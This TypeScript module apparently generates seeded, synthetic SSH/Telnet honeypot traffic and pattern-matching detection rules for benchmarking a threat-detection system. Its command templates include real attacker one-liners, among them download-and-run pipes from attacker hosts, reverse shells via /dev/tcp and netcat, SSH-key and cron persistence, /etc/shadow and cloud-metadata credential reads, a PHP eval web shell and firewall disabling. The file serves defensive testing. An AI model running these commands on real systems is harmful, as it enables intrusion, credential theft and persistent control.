/** Deterministic generators of realistic honeypot traffic for benchmarks (seeded PRNG). */

export function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    // mulberry32
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(rnd: () => number, xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;

const HOSTS = ["45.95.147.236", "185.224.128.17", "194.38.20.199", "103.145.13.4", "dl.bad-cdn.top", "193.35.18.50"];
const FILES = ["x86", "bins.sh", "mips", "arm7", "kinsing", "xmrig", "sshd", ".x/update", "a.sh", "t.pl"];
const DIRS = ["/tmp", "/var/tmp", "/dev/shm", "/root", "/home/admin", "/etc", "/usr/bin", "/var/www/html"];
const USERS = ["root", "admin", "ubuntu", "pi", "oracle", "test", "git", "postgres"];

/** Templates of what attackers (and the odd admin) type into SSH/Telnet honeypots. */
const COMMANDS: readonly ((r: () => number) => string)[] = [
  () => "uname -a",
  () => "uname -s -v -n -r -m",
  () => "cat /proc/cpuinfo | grep name | wc -l",
  () => "lscpu | grep Model",
  () => "nproc",
  () => "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  () => "whoami",
  () => "id",
  () => "w",
  () => "last",
  (r) => `ls -la ${pick(r, DIRS)}`,
  (r) => `cd ${pick(r, DIRS)}`,
  () => "ps aux | grep -v grep",
  () => "top -bn1 | head",
  () => "ifconfig",
  () => "ip a",
  () => "netstat -antp",
  () => "cat /etc/passwd",
  () => "cat /etc/shadow",
  () => "cat ~/.bash_history",
  () => "crontab -l",
  (r) => `echo "* * * * * curl -fsSL http://${pick(r, HOSTS)}/${pick(r, FILES)} | sh" | crontab -`,
  (r) => `cd /tmp; wget http://${pick(r, HOSTS)}/${pick(r, FILES)}; chmod +x ${pick(r, FILES)}; ./${pick(r, FILES)}`,
  (r) => `curl -s http://${pick(r, HOSTS)}/${pick(r, FILES)} | bash`,
  (r) => `cd /tmp || cd /var/run || cd /mnt; tftp ${pick(r, HOSTS)} -c get ${pick(r, FILES)}; busybox chmod 777 ${pick(r, FILES)}`,
  () => "/bin/busybox ECCHI",
  () => "enable; system; shell; sh",
  (r) => `echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC${Math.floor(r() * 1e9)} mdrfckr" >> ~/.ssh/authorized_keys`,
  () => "chattr -ia .ssh; lockr -ia .ssh",
  (r) => `useradd -m -s /bin/bash ${pick(r, USERS)}2`,
  (r) => `echo "${pick(r, USERS)}:Passw0rd" | chpasswd`,
  (r) => `bash -i >& /dev/tcp/${pick(r, HOSTS)}/4444 0>&1`,
  (r) => `nc -e /bin/sh ${pick(r, HOSTS)} 1337`,
  () => "history -c; rm -rf ~/.bash_history; unset HISTFILE",
  () => "iptables -F; ufw disable; setenforce 0",
  () => "pkill -9 xmrig; pkill -f kdevtmpfsi",
  (r) => `./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u ${Math.floor(r() * 1e12)}`,
  (r) => `echo ${Buffer.from(`wget http://${pick(r, HOSTS)}/a.sh`).toString("base64")} | base64 -d | sh`,
  () => "sudo -l",
  () => "find / -perm -4000 -type f 2>/dev/null",
  () => "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  () => "echo '<?php @eval($_POST[\"x\"]) ?>' > /var/www/html/x.php",
  () => "export PATH=$PATH:/usr/local/bin",
  () => "echo ok",
  () => "exit",
  () => "df -h",
  () => "apt-get update",
  () => "docker ps",
  (r) => `ping -c 1 ${pick(r, HOSTS)}`,
];

export interface BenchEvent {
  source_kind: string;
  source_id: string;
  attacker_uuid: string;
  session_id: string;
  payload: Record<string, unknown>;
}

export function commandEvents(n: number, seed = 42): BenchEvent[] {
  const rnd = prng(seed);
  const out: BenchEvent[] = [];
  for (let i = 0; i < n; i++) {
    out.push({
      source_kind: "command",
      source_id: `cmd_${i}`,
      attacker_uuid: `att-${Math.floor(rnd() * 5000)}`,
      session_id: `s-${Math.floor(i / 12)}`,
      payload: { command_text: pick(rnd, COMMANDS)(rnd), uid: 0, user: "root", src: pick(rnd, HOSTS), pwd: pick(rnd, DIRS) },
    });
  }
  return out;
}

/** `count` pattern rules in the DECNET style, each with its own distinctive token. */
export function generatedRuleYamls(count: number, seed = 7): string[] {
  const rnd = prng(seed);
  const verbs = ["wget", "curl", "tftp", "nc", "python3", "perl", "chmod", "busybox", "bash", "sh", "crontab", "useradd"];
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const id = `G${String(i).padStart(5, "0")}`;
    const verb = pick(rnd, verbs);
    const shape = i % 4;
    const pattern =
      shape === 0
        ? `(?i)\\b${verb}\\s+[^\\n;|]*tool${i}\\b`
        : shape === 1
          ? `\\b(?:${verb}|x${i})\\s+-[a-z]{1,3}\\s+\\S*payload${i}`
          : shape === 2
            ? `(?i)(?:/tmp|/dev/shm)/[a-z0-9._-]*k${i}(?=\\s|;|$)`
            : `\\b${verb}\\b.*\\bmarker${i}\\b`;
    out.push(
      [
        `rule_id: ${id}`,
        "rule_version: 1",
        `name: generated_${i}`,
        "applies_to: [command]",
        "match:",
        `  pattern: '${pattern}'`,
        "emits:",
        "  - technique_id: T1059",
        "    sub_technique_id: T1059.004",
        "    tactic: TA0002",
        `    confidence: ${(0.3 + rnd() * 0.6).toFixed(2)}`,
        "evidence_fields: [command_text]",
        "",
      ].join("\n"),
    );
  }
  return out;
}

/** Commands that sometimes hit the generated rules (tokens tool<i>, payload<i>, k<i>, marker<i>). */
export function generatedRuleEvents(n: number, ruleCount: number, seed = 9): BenchEvent[] {
  const rnd = prng(seed);
  const base = commandEvents(n, seed);
  for (const e of base) {
    if (rnd() < 0.3) {
      const i = Math.floor(rnd() * ruleCount);
      const token = pick(rnd, [`wget -q http://h/tool${i}`, `curl -sO /x/payload${i}`, `/tmp/k${i} ;`, `bash run marker${i}`]);
      e.payload.command_text = `${String(e.payload.command_text)}; ${token}`;
    }
  }
  return base;
}
